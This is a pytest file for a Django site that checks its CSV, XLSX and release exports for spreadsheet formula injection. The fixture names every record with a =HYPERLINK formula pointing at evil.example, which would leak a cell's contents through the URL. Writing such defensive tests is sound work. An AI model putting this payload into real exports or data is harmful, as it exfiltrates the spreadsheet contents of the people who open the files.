"""No table of the public site, in whichever format and about whatever, holds a cell that a spreadsheet computes."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from ctitf_site.api import VIEWSETS
from ctitf_site.register.models import Entry
from ctitf_site.register.public import record_models
from ctitf_site.register.releases import latest
from ctitf_site.register.revisions import write_revision
from ctitf_site.web.renderers import FORMULA
from tests.api import ROOT
from tests.site.world import published_world

pytestmark = [pytest.mark.django_db, pytest.mark.thorough]
TITLE = '=HYPERLINK("https://evil.example/?"&A1;"Report")'
LISTS = [f"{ROOT}{viewset.noun()}s/" for viewset in VIEWSETS]
LISTS += [f"{ROOT}{name}" for name in ("changes/", "search/?q=hyperlink", "disagreements/", "releases/")]
LISTS += [
    f"{ROOT}matrix/?of=meeting&rows=state&columns=pillar",
    "/en/contributions/matrix/",
    "/en/meetings/participation/",
]
LISTS += ["/en/contributions/matrix/?by=state&measures=true", "/en/contributions/gaps/"]


@pytest.fixture
def world(shelf):
    """One record of each kind, and all of them are called so that a spreadsheet would compute their names."""
    world = published_world()
    for model in record_models():
        model.objects.update(title_en=TITLE, title_ru=TITLE)
    Entry.objects.update(title_en=TITLE, title_ru=TITLE)
    for model in record_models():
        for record in model.objects.all():
            write_revision(record, action="changed")
    return world


def answer(client, address, ending):
    response = client.get(f"{address}{'&' if '?' in address else '?'}format={ending}")
    return response.status_code, b"".join(response) if response.streaming else response.content


def risky(content):
    """Cells of CSV that a spreadsheet would compute; numbers below nothing are none."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell[:1] in FORMULA and not cell[1:].replace(".", "").isdecimal()]


def test_no_cell_of_csv_is_computed(client, world):
    named = 0
    for address in LISTS:
        status, content = answer(client, address, "csv")
        assert status in (200, 400) and risky(content if status == 200 else b"") == [], address
        named += status == 200 and b"HYPERLINK" in content
    assert named > 12


def test_no_cell_of_a_workbook_is_computed(client, world):
    named = 0
    for address in LISTS:
        status, content = answer(client, address, "xlsx")
        if status != 200:
            continue
        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
        assert "f" not in {cell.data_type for cell in cells}, address
        named += any("HYPERLINK" in str(cell.value) for cell in cells)
    assert named > 12


def test_no_cell_of_a_release_is_computed(world):
    call_command("build_release", verbosity=0)
    tables = list((latest().path / "csv").glob("*.csv"))
    assert len(tables) > 10
    assert {table.name: found for table in tables if (found := risky(table.read_bytes()))} == {}
    assert any(b"HYPERLINK" in table.read_bytes() for table in tables)
